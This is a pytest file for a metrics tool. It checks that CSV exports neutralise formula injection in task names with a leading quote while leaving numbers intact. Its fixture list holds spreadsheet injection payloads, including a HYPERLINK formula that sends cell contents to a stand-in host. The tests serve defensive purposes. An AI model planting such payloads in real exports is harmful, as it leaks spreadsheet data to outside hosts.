"""Exported metrics never carry a spreadsheet formula (issue 12, item 7).

Task names come from users' column names. Both exports (the CLI's `export --csv` and the Runs page's
"Metrics (CSV)") must write a name such as `=HYPERLINK(...)` with a leading single quote, and keep
numbers (a negative value included) as numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from dashboard.runs import table as runs_table
from mtlcore.cli import main
from mtlcore.runs.store import RunStore
from mtlcore.spreadsheet import FORMULA_STARTS, neutralise

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "plain", "a=b"]


@pytest.fixture
def hostile_run(tmp_path: Path) -> tuple[RunStore, str]:
    store = RunStore(str(tmp_path / "runs.sqlite"))
    rid = store.create_run({"data": {"name": "table:x", "tasks": HOSTILE}}, status="finished")
    store.write_rows(rid, [(1, 0.1, 0.5, "train", task, "loss", -1.5) for task in HOSTILE], step=1)
    return store, rid


def check_cells(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE)
    for row, task in zip(sorted(rows, key=lambda r: HOSTILE.index(r["task"].removeprefix("'"))), HOSTILE):
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or cell == "-1.5", repr(cell)
        assert row["task"] == (("'" + task) if task.startswith(FORMULA_STARTS) else task)
        assert float(row["value"]) == -1.5  # numbers stay numbers


def test_cli_export_neutralises_formulas(hostile_run: tuple[RunStore, str], tmp_path: Path) -> None:
    store, rid = hostile_run
    target = tmp_path / "m.csv"
    assert main(["export", rid, "--csv", str(target), "--db", store.path]) == 0
    check_cells(target.read_bytes().decode("utf-8"))


def test_runs_page_download_neutralises_formulas(hostile_run: tuple[RunStore, str]) -> None:
    store, rid = hostile_run
    check_cells(runs_table.metrics_csv(store, [rid]).decode("utf-8"))


def test_neutralise_leaves_numbers_and_plain_text() -> None:
    assert neutralise(-3.0) == -3.0 and neutralise("loss") == "loss" and neutralise("=1") == "'=1"
